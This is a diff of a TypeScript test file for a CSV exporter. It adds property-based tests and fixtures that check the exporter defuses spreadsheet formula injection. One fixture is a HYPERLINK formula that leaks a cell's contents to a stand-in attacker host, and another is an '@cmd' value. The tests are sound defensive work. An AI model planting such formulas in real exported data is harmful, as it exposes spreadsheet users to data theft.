@@ -1,5 +1,6 @@
+import { parseCsv } from '@storelens/csv/testing';
 import fc from 'fast-check';
-import { csvFileName, csvValue, saveTextFile, tableToCsv } from './csv';
+import { csvFileName, saveTextFile, tableToCsv } from './csv';
 import type { TableHeader, TableRow } from './types';
 
 const headers: TableHeader[] = [
@@ -7,34 +8,27 @@ const headers: TableHeader[] = [
   { key: 'sold', label: 'Items sold' },
 ];
 
-/** A small RFC 4180 reader, only for checking the writer. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i]!;
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (ch === '"') quoted = false;
-      else field += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',') {
-      row.push(field);
-      field = '';
-    } else if (ch === '\n') {
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-    } else field += ch;
-  }
-  if (field !== '' || row.length > 0) rows.push([...row, field]);
-  return rows;
-}
+/** Text made of CSV's own characters and the formula starters (cheap to generate in jsdom). */
+const cellText = fc.string({
+  unit: fc.constantFrom(
+    '=',
+    '+',
+    '-',
+    '@',
+    '\t',
+    '\r',
+    '\n',
+    '"',
+    ',',
+    "'",
+    'a',
+    '1',
+    '.',
+    ' ',
+    'é',
+  ),
+  maxLength: 16,
+});
 
 describe('tableToCsv', () => {
   it('writes the labels then one line per row of raw values', () => {
@@ -51,27 +45,46 @@ describe('tableToCsv', () => {
     expect(tableToCsv(headers, rows)).toBe('Product,Items sold\nBeanie,1204\n"Cap, ""red""",\n');
   });
 
-  it('round-trips any text through a CSV reader', () => {
+  it('round-trips any text through a CSV reader, formulas neutralised, numbers kept', () => {
     fc.assert(
-      fc.property(fc.array(fc.tuple(fc.string(), fc.integer()), { maxLength: 10 }), (data) => {
+      fc.property(fc.array(fc.tuple(cellText, fc.integer()), { maxLength: 10 }), (data) => {
         const rows: TableRow[] = data.map(([text, n]) => [
           { display: text, value: text },
           { display: String(n), value: n },
         ]);
         const parsed = parseCsv(tableToCsv(headers, rows));
         expect(parsed[0]).toEqual(['Product', 'Items sold']);
-        expect(parsed.slice(1)).toEqual(data.map(([text, n]) => [csvValue(text), String(n)]));
+        expect(parsed.slice(1)).toEqual(
+          data.map(([text, n]) => [
+            /^[=+\-@\t\r]/.test(text) && !/^-?\d+(?:\.\d+)?$/.test(text) ? `'${text}` : text,
+            String(n),
+          ]),
+        );
       }),
     );
   });
 
-  it('defuses text a spreadsheet would run as a formula, but not numbers', () => {
-    expect(csvValue('=SUM(A1)')).toBe("'=SUM(A1)");
-    expect(csvValue('@cmd')).toBe("'@cmd");
-    expect(csvValue('-2+3')).toBe("'-2+3");
-    expect(csvValue(-5)).toBe('-5');
-    expect(csvValue(true)).toBe('true');
-    expect(csvValue(null)).toBe('');
+  it('writes text a spreadsheet would run as a formula with a leading quote, not numbers', () => {
+    const rows: TableRow[] = [
+      [
+        { display: 'x', value: '=HYPERLINK("http://evil.example/?x="&A2,"Click")' },
+        { display: '-5', value: -5 },
+      ],
+      [
+        { display: 'x', value: '@cmd' },
+        { display: '-12.50', value: '-12.50' },
+      ],
+      [
+        { display: 'x', value: '-2+3' },
+        { display: 'yes', value: true },
+      ],
+    ];
+    expect(tableToCsv(headers, rows)).toBe(
+      'Product,Items sold\n' +
+        '"\'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")",-5\n' +
+        "'@cmd,-12.50\n" +
+        "'-2+3,true\n",
+    );
   });
 });
 
